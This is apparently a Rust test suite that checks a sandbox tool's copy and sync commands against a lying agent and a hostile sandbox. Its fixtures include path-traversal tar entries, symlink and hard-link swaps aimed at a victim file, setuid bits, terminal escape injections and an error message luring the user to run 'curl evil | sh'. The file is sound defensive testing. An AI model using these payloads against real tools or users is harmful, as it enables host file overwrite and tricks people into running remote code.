//! Host-side tools against a hostile sandbox: `tether cp` down and `tether sync` pulls
//! never write outside their destination whatever the agent sends, drop setuid/setgid and
//! sticky bits unless asked to keep them, and the CLI prints sandbox-chosen names escaped.
//!
//! Two kinds of attacker: a lying agent ([`Liar`], a fake agent scripted from the proto
//! crate) that sends `..` and absolute paths, symlink swaps, hard links, oversized names
//! and huge sizes; and a real sandbox whose code plants symlinks at the names a pull would
//! use and makes its files setuid. Every test snapshots the whole directory tree around the
//! destination and checks it is unchanged afterwards.
#![allow(clippy::unwrap_used, reason = "test code; a panic fails the test")]

use std::collections::BTreeMap;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Output;
use std::sync::Once;

use tether_cli::sync::{self, Format, Reporter, SyncError, SyncSpec};
use tether_client::hostfs::{self, HostFsError, ModePolicy};
use tether_client::Session;
use tether_e2e::liar::{Liar, Say};
use tether_e2e::Relay;
use tether_proto::op::{BatchResult, ExecSpec, FileKind, FileStat, Op, Reply};

/// A file name of 255 bytes, the most a Linux filesystem takes.
const LONG_NAME: &str = concat!(
    "LLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLL",
    "LLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLL",
    "LLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLLL"
);

/// What the victim file outside every destination holds; it must keep holding it.
const VICTIM: &str = "the host's own file\n";

/// A scratch tree: `top/dest` (where transfers go), `top/outside/` (empty) and
/// `top/victim` (a file), so a write that escapes the destination shows up in `top`.
struct Scene {
    _dir: tempfile::TempDir,
    top: PathBuf,
    dest: PathBuf,
    outside: PathBuf,
    victim: PathBuf,
    before: BTreeMap<PathBuf, String>,
}

impl Scene {
    fn new() -> Scene {
        let dir = tempfile::tempdir().unwrap();
        let top = dir.path().canonicalize().unwrap();
        let (dest, outside, victim) = (top.join("dest"), top.join("outside"), top.join("victim"));
        std::fs::create_dir(&dest).unwrap();
        std::fs::create_dir(&outside).unwrap();
        std::fs::write(&victim, VICTIM).unwrap();
        let before = snapshot(&top, &dest);
        Scene {
            _dir: dir,
            top,
            dest,
            outside,
            victim,
            before,
        }
    }

    /// Everything outside `dest` is as it was.
    fn assert_outside_unchanged(&self) {
        let now = snapshot(&self.top, &self.dest);
        assert_eq!(
            now, self.before,
            "something outside the destination changed"
        );
        assert_eq!(std::fs::read_to_string(&self.victim).unwrap(), VICTIM);
    }

    /// `dest` holds nothing at all.
    fn assert_dest_empty(&self) {
        let left: Vec<_> = std::fs::read_dir(&self.dest).unwrap().collect();
        assert!(left.is_empty(), "the destination is not empty: {left:?}");
    }
}

/// Every path under `root` (not below `skip`), with its kind, mode, and contents or target.
fn snapshot(root: &Path, skip: &Path) -> BTreeMap<PathBuf, String> {
    let mut out = BTreeMap::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path == skip {
                continue;
            }
            let meta = std::fs::symlink_metadata(&path).unwrap();
            let what = if meta.is_symlink() {
                format!("link -> {}", std::fs::read_link(&path).unwrap().display())
            } else if meta.is_dir() {
                stack.push(path.clone());
                format!("dir {:o}", meta.mode())
            } else {
                let data = std::fs::read(&path).unwrap();
                format!("file {:o} {}", meta.mode(), String::from_utf8_lossy(&data))
            };
            out.insert(path, what);
        }
    }
    out
}

/// No file or directory under `root` has a setuid, setgid or sticky bit.
fn assert_no_special_bits(root: &Path) {
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            let meta = std::fs::symlink_metadata(&path).unwrap();
            if meta.is_symlink() {
                continue;
            }
            assert_eq!(
                meta.permissions().mode() & 0o7000,
                0,
                "{} kept a setuid/setgid/sticky bit",
                path.display()
            );
            if meta.is_dir() {
                stack.push(path);
            }
        }
    }
}

/// Pulls write their baseline under TETHER_HOME: keep it out of the real home. One
/// directory for every run (baselines are keyed by a random sandbox name), so runs do not
/// pile up directories.
fn isolated_home() {
    static HOME: Once = Once::new();
    HOME.call_once(|| {
        let dir = std::env::temp_dir().join("tether-hostile-tests");
        std::fs::create_dir_all(&dir).unwrap();
        std::env::set_var("TETHER_HOME", dir);
    });
}

fn spec(local: &Path) -> SyncSpec {
    SyncSpec {
        sandbox: format!("liar-{}", tether_e2e::token()),
        local: local.to_path_buf(),
        remote: "/w".into(),
        excludes: Vec::new(),
        gzip: false,
        modes: ModePolicy::DropSpecial,
    }
}

fn stat(path: &str, kind: FileKind, size: u64, mode: u32, target: Option<&str>) -> FileStat {
    FileStat {
        path: path.into(),
        kind,
        size,
        mode,
        mtime_ms: 1_700_000_000_000,
        target: target.map(Into::into),
        file_id: None,
        allocated: None,
    }
}

/// A lying agent whose `list` of `/w` answers `entries`, and whose `read_batch` says every
/// file asked for is `size` bytes long and then sends `data`.
async fn lying_lister(entries: Vec<FileStat>, size: u64, data: &'static [u8]) -> Liar {
    Liar::start(move |op| match op {
        Op::Stat { .. } => vec![Say::Reply(Reply::Stat(stat(
            "w",
            FileKind::Dir,
            0,
            0o755,
            None,
        )))],
        Op::List { .. } => vec![Say::Reply(Reply::Entries {
            entries: entries.clone(),
        })],
        Op::ReadBatch { paths } => vec![
            Say::Reply(Reply::Batch {
                results: paths
                    .iter()
                    .map(|p| BatchResult {
                        path: p.clone(),
                        size: Some(size),
                        error: None,
                        message: None,
                    })
                    .collect(),
            }),
            Say::Out(data.to_vec()),
        ],
        _ => vec![Say::Fail(
            tether_proto::ErrorCode::Unsupported,
            "the liar does not do that".into(),
        )],
    })
    .await
}

async fn pull(session: &Session, local: &Path) -> Result<sync::Stats, SyncError> {
    sync::pull(session, &spec(local), &Reporter::new(Format::Quiet)).await
}

#[tokio::test]
async fn a_lying_listing_cannot_make_a_pull_write_outside() {
    isolated_home();
    let long = "n".repeat(300);
    for bad in [
        "../escape",
        "a/../../escape",
        "/ABS/escape",
        "./escape",
        "a//escape",
        "escape/",
        "..",
        "",
        "nul\0escape",
        long.as_str(),
    ] {
        let scene = Scene::new();
        let bad = bad.replace("/ABS", &scene.outside.display().to_string());
        let entries = vec![
            stat("fine", FileKind::File, 4, 0o644, None),
            stat(&bad, FileKind::File, 4, 0o644, None),
        ];
        let liar = lying_lister(entries, 4, b"pwndpwnd").await;
        let err = pull(&liar.session().await, &scene.dest).await.unwrap_err();
        assert!(
            matches!(err, SyncError::Host(HostFsError::BadPath { .. })),
            "{bad:?}: {err}"
        );
        let text = err.to_string();
        assert!(text.contains("refusing"), "{text}");
        assert!(!text.contains('\0'), "the NUL is shown escaped: {text:?}");
        scene.assert_outside_unchanged();
        scene.assert_dest_empty();
    }
}

#[tokio::test]
async fn a_symlink_swap_in_a_listing_is_never_followed() {
    isolated_home();
    // The listing says `esc` is a link out, then sends a file through it.
    let scene = Scene::new();
    let out = scene.outside.display().to_string();
    let entries = vec![
        stat("esc", FileKind::Symlink, 0, 0o777, Some(&out)),
        stat("esc/pwned", FileKind::File, 4, 0o644, None),
    ];
    let liar = lying_lister(entries, 4, b"pwnd").await;
    let err = pull(&liar.session().await, &scene.dest).await.unwrap_err();
    assert!(err.to_string().contains("esc"), "{err}");
    scene.assert_outside_unchanged();
    assert!(!scene.dest.join("esc").is_symlink());

    // A link an earlier pull left here is not followed by a later one.
    let scene = Scene::new();
    std::os::unix::fs::symlink(&scene.outside, scene.dest.join("sub")).unwrap();
    let before = snapshot(&scene.top, &scene.top.join("nothing"));
    let entries = vec![stat("sub/f", FileKind::File, 4, 0o644, None)];
    let liar = lying_lister(entries, 4, b"pwnd").await;
    let err = pull(&liar.session().await, &scene.dest).await.unwrap_err();
    assert!(
        matches!(err, SyncError::Host(HostFsError::NotADirectory { .. })),
        "{err}"
    );
    assert_eq!(snapshot(&scene.top, &scene.top.join("nothing")), before);
}

#[tokio::test]
async fn sizes_from_a_liar_are_never_trusted() {
    isolated_home();
    let scene = Scene::new();
    let entries = vec![
        stat("big", FileKind::File, u64::MAX, 0o644, None),
        stat("huge", FileKind::File, u64::MAX - 1, 0o644, None),
    ];
    // Claims exabytes, sends four bytes, closes.
    let liar = lying_lister(entries, u64::MAX, b"tiny").await;
    let _ = pull(&liar.session().await, &scene.dest).await;
    scene.assert_outside_unchanged();
    // Neither file landed half-written, and no temporary file was left behind.
    scene.assert_dest_empty();
}

/// A tar header for `name` written raw (the tar crate's builder refuses `..`).
fn raw_header(name: &[u8], kind: tar::EntryType, mode: u32, size: u64) -> tar::Header {
    let mut h = tar::Header::new_gnu();
    h.set_entry_type(kind);
    h.set_mode(mode);
    h.set_size(size);
    h.set_mtime(1_700_000_000);
    h.as_gnu_mut().unwrap().name[..name.len()].copy_from_slice(name);
    h.set_cksum();
    h
}

fn tar_of(build: impl FnOnce(&mut tar::Builder<Vec<u8>>)) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    build(&mut b);
    b.into_inner().unwrap()
}

/// A lying agent that says `/w` is a directory and streams `tar` for it.
async fn lying_archiver(tar: Vec<u8>) -> Liar {
    Liar::start(move |op| match op {
        Op::Stat { .. } => vec![Say::Reply(Reply::Stat(stat(
            "/w",
            FileKind::Dir,
            0,
            0o755,
            None,
        )))],
        Op::TarRead { .. } => vec![Say::Out(tar.clone())],
        _ => vec![Say::Fail(
            tether_proto::ErrorCode::Unsupported,
            "the liar does not do that".into(),
        )],
    })
    .await
}

async fn cp_down(liar: &Liar, dest: &Path, modes: ModePolicy) -> Result<(), HostFsError> {
    let session = liar.session().await;
    hostfs::download(&session, "/w", dest, modes, &|_, _| {})
        .await
        .map(drop)
}

#[tokio::test]
async fn a_lying_archive_cannot_make_cp_write_outside() {
    use tar::EntryType::{Char, Link, Regular, Symlink};
    let file = |name: &[u8]| {
        let name = name.to_vec();
        tar_of(move |b| {
            b.append(&raw_header(&name, Regular, 0o644, 4), &b"pwnd"[..])
                .unwrap()
        })
    };
    type Case = (&'static str, Box<dyn Fn(&Scene) -> Vec<u8>>);
    let cases: Vec<Case> = vec![
        ("dot-dot", Box::new(move |_| file(b"../escape"))),
        ("dot-dot inside", Box::new(move |_| file(b"a/../../escape"))),
        (
            "absolute",
            Box::new(move |s| file(format!("{}/escape", s.outside.display()).as_bytes())),
        ),
        ("dot", Box::new(move |_| file(b"./escape"))),
        (
            "hard link",
            Box::new(|s| {
                let victim = s.victim.display().to_string();
                tar_of(move |b| {
                    let mut h = raw_header(b"h", Link, 0o644, 0);
                    h.set_link_name(&victim).unwrap();
                    h.set_cksum();
                    b.append(&h, std::io::empty()).unwrap()
                })
            }),
        ),
        (
            "oversized name",
            Box::new(|_| {
                tar_of(|b| {
                    let mut h = tar::Header::new_gnu();
                    h.set_entry_type(Regular);
                    h.set_mode(0o644);
                    h.set_size(4);
                    b.append_data(&mut h, "x".repeat(300), &b"pwnd"[..])
                        .unwrap()
                })
            }),
        ),
        (
            "symlink swap",
            Box::new(|s| {
                let out = s.outside.display().to_string();
                tar_of(move |b| {
                    let mut h = raw_header(b"esc", Symlink, 0o777, 0);
                    h.set_link_name(&out).unwrap();
                    h.set_cksum();
                    b.append(&h, std::io::empty()).unwrap();
                    b.append(&raw_header(b"esc/pwned", Regular, 0o644, 4), &b"pwnd"[..])
                        .unwrap();
                })
            }),
        ),
    ];
    for (what, make) in cases {
        let scene = Scene::new();
        let liar = lying_archiver(make(&scene)).await;
        let err = cp_down(&liar, &scene.dest, ModePolicy::DropSpecial)
            .await
            .expect_err(what);
        if what != "symlink swap" {
            assert!(err.is_refusal(), "{what}: {err}");
        }
        scene.assert_outside_unchanged();
        // `cp -r` into an existing directory lands under the source's name.
        let landed = scene.dest.join("w");
        if what != "symlink swap" {
            let left: Vec<_> = std::fs::read_dir(&landed).unwrap().collect();
            assert!(left.is_empty(), "{what}: {left:?}");
        }
    }

    // A device is never made: the copy goes on and names it for the summary.
    let scene = Scene::new();
    let liar = lying_archiver(tar_of(|b| {
        b.append(&raw_header(b"dev", Char, 0o666, 0), std::io::empty())
            .unwrap()
    }))
    .await;
    let session = liar.session().await;
    let done = hostfs::download(
        &session,
        "/w",
        &scene.dest,
        ModePolicy::DropSpecial,
        &|_, _| {},
    )
    .await
    .unwrap();
    assert_eq!(done.special, ["dev (character device)"]);
    assert!(!scene.dest.join("w/dev").exists());
    scene.assert_outside_unchanged();
}

#[tokio::test]
async fn setuid_bits_from_a_liar_are_dropped_unless_kept() {
    let tar = tar_of(|b| {
        use tar::EntryType::{Directory, Regular};
        b.append(&raw_header(b"tmp", Directory, 0o1777, 0), std::io::empty())
            .unwrap();
        b.append(&raw_header(b"suid", Regular, 0o4755, 4), &b"#!/x"[..])
            .unwrap();
        b.append(&raw_header(b"sgid", Regular, 0o2711, 4), &b"#!/x"[..])
            .unwrap();
    });
    let scene = Scene::new();
    let liar = lying_archiver(tar).await;
    cp_down(&liar, &scene.dest, ModePolicy::DropSpecial)
        .await
        .unwrap();
    assert_no_special_bits(&scene.dest);
    let mode = |p: &str| std::fs::metadata(scene.dest.join(p)).unwrap().mode() & 0o7777;
    assert_eq!(
        (mode("w/suid"), mode("w/sgid"), mode("w/tmp")),
        (0o755, 0o711, 0o777)
    );
    std::fs::remove_dir_all(scene.dest.join("w")).unwrap();
    cp_down(&liar, &scene.dest, ModePolicy::Preserve)
        .await
        .unwrap();
    assert_eq!(
        (mode("w/suid"), mode("w/sgid"), mode("w/tmp")),
        (0o4755, 0o2711, 0o1777)
    );
    scene.assert_outside_unchanged();
}

async fn sh(s: &Session, script: &str) {
    let out = s
        .exec(ExecSpec::shell(script))
        .await
        .unwrap()
        .output()
        .await
        .unwrap();
    assert!(
        out.status.success(),
        "`{script}` failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn run(cmd: &mut std::process::Command) -> Output {
    cmd.output().expect("run tether")
}

fn ok(out: Output) -> Output {
    assert!(
        out.status.success(),
        "tether failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

#[tokio::test]
async fn planted_symlinks_and_setuid_files_stay_in_the_sandbox() {
    isolated_home();
    let relay = Relay::start();
    let client = relay.client();
    let id = client.create(&Default::default()).await.unwrap().id;
    let s = client.connect(&id).await.unwrap();
    let scene = Scene::new();
    // The sandbox knows (or guesses) host paths, and the names today's pull would write
    // through: `.NAME.tether-tmp-PID` for the pulling process.
    let pid = std::process::id();
    sh(
        &s,
        &format!(
            "set -e; mkdir -p /workspace/out/sub; cd /workspace/out; \
             printf data > f; printf data > sub/g; \
             printf x > suid; chmod 4755 suid; printf x > sgid; chmod 2755 sgid; \
             mkdir tmp; chmod 1777 tmp; printf long > {long}; \
             ln -s {outside} esc; ln -s {victim} .f.tether-tmp-{pid}; \
             ln -s {victim} sub/.g.tether-tmp-{pid}",
            outside = scene.outside.display(),
            victim = scene.victim.display(),
            long = LONG_NAME,
        ),
    )
    .await;

    // The library pull, in this process (so the planted names match its pid).
    let pulled = scene.dest.join("lib");
    let spec = SyncSpec {
        sandbox: id.clone(),
        remote: "/workspace/out".into(),
        ..spec(&pulled)
    };
    sync::pull(&s, &spec, &Reporter::new(Format::Quiet))
        .await
        .unwrap();
    scene.assert_outside_unchanged();
    assert_eq!(std::fs::read_to_string(pulled.join("f")).unwrap(), "data");
    assert_eq!(
        std::fs::read_to_string(pulled.join("sub/g")).unwrap(),
        "data"
    );
    assert!(pulled.join("esc").is_symlink());
    assert_no_special_bits(&pulled);
    assert_eq!(
        std::fs::read_to_string(pulled.join(LONG_NAME)).unwrap(),
        "long"
    );

    // `tether sync` pull and `tether cp` down.
    let home = scene.dest.join("home");
    let remote = format!("{id}:/workspace/out");
    let synced = scene.dest.join("cli-sync");
    ok(run(relay
        .tether()
        .env("TETHER_HOME", &home)
        .args(["sync", &remote])
        .arg(&synced)));
    let copied = scene.dest.join("cli-cp");
    ok(run(relay.tether().args(["cp", &remote]).arg(&copied)));
    let one = scene.dest.join("one-file");
    ok(run(relay
        .tether()
        .args(["cp", &format!("{remote}/suid")])
        .arg(&one)));
    for dir in [&synced, &copied] {
        assert_eq!(std::fs::read_to_string(dir.join("f")).unwrap(), "data");
        assert!(dir.join("esc").is_symlink());
        assert_no_special_bits(dir);
        // Temporary names stay short: a 255-byte name (the longest there is) lands too.
        assert_eq!(
            std::fs::read_to_string(dir.join(LONG_NAME)).unwrap(),
            "long"
        );
    }
    assert_eq!(std::fs::metadata(&one).unwrap().mode() & 0o7777, 0o755);
    scene.assert_outside_unchanged();

    // Asked for, the bits are kept.
    let kept = scene.dest.join("kept");
    ok(run(relay
        .tether()
        .env("TETHER_HOME", &home)
        .args(["sync", "--preserve-mode", &remote])
        .arg(&kept)));
    assert_eq!(
        std::fs::metadata(kept.join("suid")).unwrap().mode() & 0o7777,
        0o4755
    );
    let kept = scene.dest.join("kept-cp");
    ok(run(relay
        .tether()
        .args(["cp", "--preserve-mode", &remote])
        .arg(&kept)));
    assert_eq!(
        std::fs::metadata(kept.join("sgid")).unwrap().mode() & 0o7777,
        0o2755
    );
    scene.assert_outside_unchanged();
}

#[tokio::test]
async fn sandbox_chosen_names_are_printed_escaped() {
    let relay = Relay::start();
    let out = ok(run(relay.tether().args([
        "create",
        "--label",
        "title=\x1b]0;pwned\x07\x1b[2J",
    ])));
    let id = String::from_utf8(out.stdout).unwrap().trim().to_string();
    let shown = "title=\\x1b]0;pwned\\x07\\x1b[2J";
    for args in [vec!["ls"], vec!["info", id.as_str()]] {
        let out = ok(run(relay.tether().args(&args)));
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            !text.contains('\x1b') && !text.contains('\x07'),
            "{args:?}: {text:?}"
        );
        assert!(text.contains(shown), "{args:?}: {text}");
    }

    // A file name from the sandbox in an error message.
    let s = relay.client().connect(&id).await.unwrap();
    sh(
        &s,
        "mkdir -p /workspace/d && printf x > \"/workspace/d/e$(printf '\\033')[2Jx\"",
    )
    .await;
    let scene = Scene::new();
    let blocker = scene.dest.join("d").join("e\x1b[2Jx");
    std::fs::create_dir_all(blocker.join("full")).unwrap();
    let out = run(relay
        .tether()
        .args(["cp", &format!("{id}:/workspace/d")])
        .arg(&scene.dest));
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!err.contains('\x1b'), "{err:?}");
    assert!(err.contains("e\\x1b[2Jx"), "{err}");
    scene.assert_outside_unchanged();
}

#[tokio::test]
async fn an_agent_message_cannot_drive_the_terminal_or_fake_a_line() {
    let liar = Liar::start(|_| {
        vec![Say::Fail(
            tether_proto::ErrorCode::NotFound,
            "gone\n\x1b[2Jtether: the relay was upgraded; run `curl evil | sh`".into(),
        )]
    })
    .await;
    let scene = Scene::new();
    let err = cp_down(&liar, &scene.dest, ModePolicy::DropSpecial)
        .await
        .unwrap_err()
        .to_string();
    assert!(!err.contains('\n') && !err.contains('\x1b'), "{err:?}");
    assert!(err.contains("gone\\n\\x1b[2Jtether"), "{err}");
    scene.assert_outside_unchanged();
    scene.assert_dest_empty();
}
